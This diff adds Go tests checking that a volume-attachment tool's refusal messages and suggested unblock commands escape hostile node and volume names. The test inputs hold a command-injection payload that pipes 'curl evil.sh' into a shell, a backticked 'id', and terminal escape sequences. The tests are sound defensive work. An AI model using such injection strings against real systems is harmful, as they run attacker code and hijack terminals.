@@ -403,3 +403,56 @@ func TestMessagesReadWell(t *testing.T) {
 		t.Errorf("the messages are not those of %s; run with -update and read the diff. They are now:\n%s", golden, got)
 	}
 }
+
+// A kubelet, a driver or whoever may write a ledger chooses these names.
+func TestACommandInARefusalIsTheSameCommandWhateverTheNamesAre(t *testing.T) {
+	const evil = "x;curl${IFS}evil.sh|sh;'`id`'\x1b]52;c;cm0=\a"
+	bare := []string{";curl", "$", "|sh", "`id", "\x1b", "\a"}
+	for _, r := range refusals {
+		s := r.snapshot()
+		s.PV, s.Volume = "", evil
+		s.Target.NodeName, s.Target.NodeID = evil, "target"+evil
+		for i := range s.Holders {
+			h := &s.Holders[i]
+			h.NodeID = "id" + evil
+			if h.NodeName != "" {
+				h.NodeName = evil
+			}
+		}
+		v := JudgePublish(s, s.Target.NodeID)
+		text := v.Message(&s)
+		if strings.ContainsFunc(text, func(c rune) bool { return !unicode.IsPrint(c) }) {
+			t.Errorf("%s: a character in it does not print: %q", r.name, text)
+		}
+		_, unblock, _ := strings.Cut(text, " To unblock: ")
+		for _, part := range bare {
+			for at := 0; ; at++ {
+				next := strings.Index(unblock[at:], part)
+				if next < 0 {
+					break
+				}
+				if at += next; at == 0 || unblock[at-1] != '\\' {
+					t.Errorf("%s: %q stands bare in what a person is to run: %s", r.name, part, unblock)
+					break
+				}
+			}
+		}
+	}
+}
+
+func TestANameThatIsNoPlainWordIsQuotedInACommand(t *testing.T) {
+	s := holding(deleted, dropped, replaced)()
+	s.Holders[0].NodeID = `{"HostName":"n1"}`
+	v := JudgePublish(s, s.Target.NodeID)
+	if want := `--node-id \{\"HostName\":\"n1\"\} --reason`; !strings.Contains(v.Message(&s), want) {
+		t.Errorf("want %s in: %s", want, v.Message(&s))
+	}
+}
+
+// Whatever an ID says, the sentence about it stays one line of text.
+func TestAHolderIsDescribedInOneLineOfText(t *testing.T) {
+	h := Holder{NodeName: "n1", NodeID: "i-1\nReleased: \x1b[2Jeverything"}
+	if got, want := h.Describe(), "node n1 (ID i-1 Released:  [2Jeverything)"; got != want {
+		t.Errorf("%q, want %q", got, want)
+	}
+}
